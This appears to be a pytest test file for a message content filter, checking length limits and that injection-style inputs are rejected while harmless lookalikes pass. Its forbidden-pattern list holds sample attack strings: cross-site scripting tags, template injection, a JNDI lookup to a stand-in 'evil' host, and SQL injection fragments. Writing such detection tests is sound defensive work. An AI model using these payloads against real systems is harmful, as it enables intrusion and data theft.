import pytest

from content_filter import check_message
from errors import ContentPolicyError, ValidationError


def test_accepts_plain_message():
    assert check_message("why is the sky green?", 500) == "why is the sky green?"


def test_accepts_message_at_ceiling():
    assert check_message("a" * 500, 500)


@pytest.mark.parametrize("message", [None, "", "  \n", 12, ["hi"]])
def test_missing_message(message):
    with pytest.raises(ValidationError):
        check_message(message, 500)


def test_length_checked_before_patterns():
    with pytest.raises(ValidationError):
        check_message("{{ 7*7 }}" + "a" * 500, 500)


@pytest.mark.parametrize(
    "message",
    [
        "<script>alert(1)</script>",
        "< SCRIPT src=x>",
        "click javascript:alert(1)",
        '<img src=x onerror="boom()">',
        "hello {{ config.items() }}",
        "{% for x in y %}",
        "${jndi:ldap://evil}",
        "SELECT password FROM users",
        "1 UNION SELECT null",
        "; DROP TABLE sessions",
        "insert into users values (1)",
        "delete from users",
    ],
)
def test_forbidden_patterns(message):
    with pytest.raises(ContentPolicyError):
        check_message(message, 500)


@pytest.mark.parametrize(
    "message",
    [
        "one = two?",
        "I like curly {braces}",
        "please select a color",
        "the script was great",
        "Help me select a birthday gift from this list",
    ],
)
def test_harmless_lookalikes_pass(message):
    assert check_message(message, 500) == message
